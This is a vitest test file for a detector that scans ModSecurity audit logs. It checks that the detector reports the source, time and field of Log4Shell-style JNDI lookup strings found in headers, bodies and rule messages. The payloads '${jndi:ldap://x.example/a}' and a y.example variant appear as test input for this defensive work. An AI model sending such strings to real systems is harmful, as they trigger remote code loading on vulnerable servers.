import { expect, test } from 'vitest'
import { huntIn } from '../../../test/kit/hunting.ts'

const attack = '${jndi:ldap://x.example/a}'
const at = Date.UTC(2021, 11, 12, 4, 25, 41)

function audit(letters: string, from: string, { agent = 'curl/7', body = 'a=b', says = 'Message: x' } = {}) {
  return `--${letters}-A--
[12/Dec/2021:04:25:41 +0000] YbV5tX8AAQEAAGNDUFwAAAAY ${from} 51234 10.0.0.4 443
--${letters}-B--
POST /a HTTP/1.1
Host: www.example.com
User-Agent: ${agent}

--${letters}-C--
${body}
--${letters}-F--
HTTP/1.1 403 Forbidden

--${letters}-H--
${says}

--${letters}-Z--

`
}

const innocent = audit('00000001', '198.51.100.7')

test.each([
  ['a header', audit('b1820656', '203.0.113.9', { agent: attack }), 'header User-Agent', 18],
  ['the body', audit('b1820656', '203.0.113.9', { body: `x\n\ny=${attack}` }), 'body', 18],
  ['what a rule said', audit('b1820656', '203.0.113.9', { says: `Message: Found "${attack}"` }), 'rules', 18],
])('an attack in %s has the time and the source of its record', (_where, record, field, line) => {
  const { findings } = huntIn(`${innocent}${record}${innocent}`)

  expect(findings).toMatchObject([
    {
      field,
      from: '203.0.113.9',
      when: at,
      request: 'POST /a',
      format: 'modsecurity-audit',
      lookup: { raw: attack },
      at: { line },
    },
  ])
})

test('two attacks in one record are told each', () => {
  const other = '${jndi:ldap://y.example/b}'
  const { findings } = huntIn(audit('b1820656', '203.0.113.9', { agent: attack, body: other }))

  expect(findings).toMatchObject([
    { field: 'header User-Agent', lookup: { raw: attack } },
    { field: 'body', lookup: { raw: other } },
  ])
})

test.each([
  ['a record of its own', audit('ffffffff', '192.0.2.1', { agent: attack })],
  ['the beginning of one', `--ffffffff-A--\n[01/Jan/2020:00:00:00 +0000] a 192.0.2.1 1 192.0.2.1 1\n${attack}`],
  ['the end of one before it', `--ffffffff-Z--\n${attack}`],
])('%s in a body changes neither source nor time', (_what, body) => {
  const { findings } = huntIn(`${innocent}${audit('b1820656', '203.0.113.9', { body })}${innocent}`)

  expect(findings).toMatchObject([{ from: '203.0.113.9', when: at, lookup: { raw: attack } }])
})

test('a record in a body whose own record began before what is seen has no source', () => {
  const whole = audit('b1820656', '203.0.113.9', { body: audit('ffffffff', '192.0.2.1', { agent: attack }) })

  const { findings } = huntIn(whole.slice(whole.indexOf('User-Agent')))

  expect(findings).toMatchObject([{ from: null, when: null, lookup: { raw: attack } }])
})
